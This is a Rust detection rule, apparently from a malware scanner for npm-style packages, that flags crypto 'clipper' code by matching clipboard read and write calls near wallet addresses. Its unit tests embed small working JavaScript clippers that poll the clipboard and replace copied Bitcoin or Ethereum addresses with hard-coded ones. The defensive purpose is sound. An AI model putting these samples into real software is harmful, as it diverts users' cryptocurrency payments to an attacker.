//! `clipboard-hijack`: crypto clippers that watch the clipboard and swap a copied wallet
//! address for the attacker's.

use palisade_core::{Capability, Confidence, Finding, Severity};

use super::signals::{self, finding};
use super::sinks;
use super::wallet_hijack::address_kind;
use super::{FileRule, RuleInfo};
use crate::facts::{Call, FileFacts, FileKind};

pub struct ClipboardHijack;

static INFO: RuleInfo = RuleInfo {
    id: "clipboard-hijack",
    severity: Severity::Critical,
    confidence: Confidence::High,
    capabilities: &[Capability::Wallet],
    summary:
        "Reads the clipboard and writes it back next to hard-coded crypto addresses or address patterns: a clipper",
    docs: r#"## What it detects

A file that both reads the clipboard (`clipboardy.read/readSync`, `navigator.clipboard.readText`,
Electron's `clipboard.readText`, `pbpaste`, `Get-Clipboard`, `xclip -o`, `xsel -o`) and writes
it (`clipboardy.write/writeSync`, `navigator.clipboard.writeText`, `clipboard.writeText`,
`pbcopy`, `Set-Clipboard`, `clip`, `xclip`/`xsel` input), and also:

- holds hard-coded wallet addresses (Ethereum, Bitcoin, Tron, Litecoin, Solana): **critical**,
  the copied address is replaced by one of these;
- or only matches address patterns (`0x[a-fA-F0-9]{40}`, `bc1…`) and talks to the network
  (the replacement address fetched): **high**, medium confidence; without the network,
  **moderate**.

Minified bundles and files over 50 KB (wallet user interfaces paste and copy addresses and may
show a donation address) are reported **moderate** at most.

## Real attacks

- Clipper typosquats on npm and PyPI (2021–2025) poll the clipboard every few hundred
  milliseconds and replace Bitcoin and Ethereum addresses; the Node versions use `clipboardy`
  or shell out to `pbpaste`/`Get-Clipboard`.
- The chalk/debug compromise (September 2025) did the same in the browser for addresses inside
  network responses (see `wallet-hijack`).

## Known false positives

Clipboard utilities and address-book tools that both paste and copy, with addresses only in
their tests.
"#,
};

const READ_METHODS: &[&str] = &["readText", "readSync", "read", "paste", "pasteSync", "readHTML"];
const WRITE_METHODS: &[&str] = &["writeText", "writeSync", "write", "copy", "copySync"];
const CLIPBOARD_MODULES: &[&str] = &["clipboardy", "copy-paste", "ncp", "clipboard", "node-clipboardy"];

const READ_COMMANDS: &[&str] = &[
    "pbpaste",
    "get-clipboard",
    "xclip -o",
    "xclip -selection clipboard -o",
    "xclip -sel clip -o",
    "xsel -o",
    "xsel --clipboard --output",
    "xsel -bo",
    "wl-paste",
];
const WRITE_COMMANDS: &[&str] = &[
    "pbcopy",
    "set-clipboard",
    "| clip",
    "xclip -selection clipboard",
    "xclip -sel clip",
    "xsel --clipboard --input",
    "xsel -bi",
    "wl-copy",
];

/// Whether a call reads (`Some(false)`) or writes (`Some(true)`) the clipboard.
fn clipboard_call(call: &Call) -> Option<bool> {
    let callee = sinks::normalize(&call.callee);
    let method = signals::method(callee);
    let receiver = signals::receiver(callee);
    let on_clipboard = receiver.ends_with("clipboard")
        || CLIPBOARD_MODULES.contains(&receiver)
        || CLIPBOARD_MODULES
            .iter()
            .any(|m| receiver.strip_prefix(m).is_some_and(|rest| rest.starts_with('.')));
    if on_clipboard {
        if READ_METHODS.contains(&method) {
            return Some(false);
        }
        if WRITE_METHODS.contains(&method) {
            return Some(true);
        }
    }
    if sinks::is_exec_call(call) {
        let text = signals::call_text(call);
        if READ_COMMANDS.iter().any(|c| text.contains(c)) {
            return Some(false);
        }
        if WRITE_COMMANDS.iter().any(|c| text.contains(c)) {
            return Some(true);
        }
    }
    None
}

const ADDRESS_PATTERNS: &[&str] = &[
    "0x[a-fa-f0-9]{40}",
    "0x[0-9a-fa-f]{40}",
    "0x[a-f0-9]{40}",
    "0x[0-9a-f]{40}",
    "(bc1|[13])",
    "bc1q",
    "[13][a-km-za-hj-np-z1-9]",
    "[13][a-za-hj-np-z0-9]",
    "t[1-9a-hj-np-za-km-z]{33}",
    "[1-9a-hj-np-za-km-z]{32,44}",
];

impl FileRule for ClipboardHijack {
    fn info(&self) -> &'static RuleInfo {
        &INFO
    }

    fn check(&self, file: &FileFacts, out: &mut Vec<Finding>) {
        if !matches!(file.kind, FileKind::JavaScript | FileKind::TypeScript) {
            return;
        }
        // Cheap gate: every clipboard API, module and command named above contains one of
        // these (`clipboard`, `clipboardy`, `xclip`, `Get-Clipboard`, `pbpaste`, …).
        let text = file.text.as_deref().unwrap_or("");
        let named = [
            "clip",
            "Clip",
            "pbpaste",
            "pbcopy",
            "xsel",
            "wl-paste",
            "wl-copy",
            "ncp",
            "copy-paste",
        ]
        .iter()
        .any(|n| memchr::memmem::find(text.as_bytes(), n.as_bytes()).is_some());
        if !named {
            return;
        }
        let (mut read, mut write) = (None::<&Call>, None::<&Call>);
        for call in &file.calls {
            match clipboard_call(call) {
                Some(false) if read.is_none() => read = Some(call),
                Some(true) if write.is_none() => write = Some(call),
                _ => {}
            }
        }
        // Commands held in strings and run through a variable.
        let command_string = |commands: &[&str], alone: &[&str]| {
            file.strings.iter().any(|s| {
                let lower = s.value.trim().to_ascii_lowercase();
                commands.iter().any(|c| lower.contains(c)) || alone.contains(&lower.as_str())
            })
        };
        let runs = file.calls.iter().any(sinks::is_exec_call);
        let reads = read.is_some() || (runs && command_string(READ_COMMANDS, &[]));
        let writes = write.is_some() || (runs && command_string(WRITE_COMMANDS, &["clip", "clip.exe"]));
        if !reads || !writes {
            return;
        }
        let mut chains: Vec<&str> = Vec::new();
        for string in &file.strings {
            if let Some(chain) = address_kind(&string.value) {
                if !chains.contains(&chain) {
                    chains.push(chain);
                }
            }
        }
        let lower = file.text.as_deref().unwrap_or("").to_ascii_lowercase();
        let patterns = ADDRESS_PATTERNS.iter().any(|p| lower.contains(p));
        if chains.is_empty() && !patterns {
            return;
        }
        let small = sinks::is_small_handwritten(file);
        let (severity, confidence, what) = match (small, chains.is_empty()) {
            (true, false) => (
                Severity::Critical,
                Confidence::High,
                format!("hard-coded {} addresses", chains.join(", ")),
            ),
            // A clipper needs the attacker's address: without one written out, only one
            // fetched from the network makes this one.
            (true, true) if sinks::has_network(file) => (
                Severity::High,
                Confidence::Medium,
                "address patterns, in a file that talks to the network".to_string(),
            ),
            (true, true) => (Severity::Moderate, Confidence::Low, "address patterns".to_string()),
            (false, _) => (Severity::Moderate, Confidence::Low, "addresses in a bundle".to_string()),
        };
        let line = write.or(read).map_or(1, |c| c.line);
        out.push(finding(
            &INFO,
            file,
            line,
            severity,
            confidence,
            format!("Reads the clipboard and writes it back next to {what}: a clipper that swaps a copied wallet address for the attacker's"),
            "",
        ));
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::facts;

    fn run(source: &str) -> Vec<Finding> {
        let file = facts::extract("index.js", source.as_bytes(), 0o644);
        let mut out = Vec::new();
        ClipboardHijack.check(&file, &mut out);
        out
    }

    #[test]
    fn clipboardy_clipper_with_addresses_is_critical() {
        let source = r#"const clipboardy = require("clipboardy");
const BTC = /^(bc1|[13])[a-zA-HJ-NP-Z0-9]{25,39}$/;
setInterval(() => {
  const text = clipboardy.readSync().trim();
  if (BTC.test(text)) clipboardy.writeSync("bc1qxy2kgdygjrsqtzq2n0yrf2493p83kkfjhx0wlh");
  else if (/^0x[a-fA-F0-9]{40}$/.test(text)) clipboardy.writeSync("0x52908400098527886E0F7030069857D2E4169EE7");
}, 500);
"#;
        let found = run(source);
        assert_eq!(found.len(), 1, "{found:#?}");
        assert_eq!(found[0].severity, Severity::Critical);
        assert!(found[0].message.contains("bitcoin"), "{}", found[0].message);
        assert_eq!(found[0].line, Some(5));
    }

    #[test]
    fn shell_clipboard_commands_count() {
        let source = r#"const { execSync } = require("child_process");
const read = process.platform === "darwin" ? "pbpaste" : "powershell -c Get-Clipboard";
const write = process.platform === "darwin" ? "pbcopy" : "clip";
setInterval(() => {
  const v = execSync(read).toString().trim();
  if (/^0x[a-fA-F0-9]{40}$/.test(v)) execSync(write, { input: "0x52908400098527886E0F7030069857D2E4169EE7" });
}, 1000);
"#;
        assert_eq!(run(source)[0].severity, Severity::Critical, "{:#?}", run(source));
    }

    #[test]
    fn clipboard_tools_without_addresses_are_quiet() {
        for source in [
            "const clipboardy = require('clipboardy');\nconst t = clipboardy.readSync();\nclipboardy.writeSync(t.toUpperCase());",
            "async function copyAddress(a) { await navigator.clipboard.writeText(a); }\nconst isAddress = (s) => /^0x[a-fA-F0-9]{40}$/.test(s);",
            "const DONATE = '0x52908400098527886E0F7030069857D2E4169EE7';\nasync function paste() { return navigator.clipboard.readText(); }",
        ] {
            assert!(run(source).is_empty(), "{source}: {:#?}", run(source));
        }
    }
}
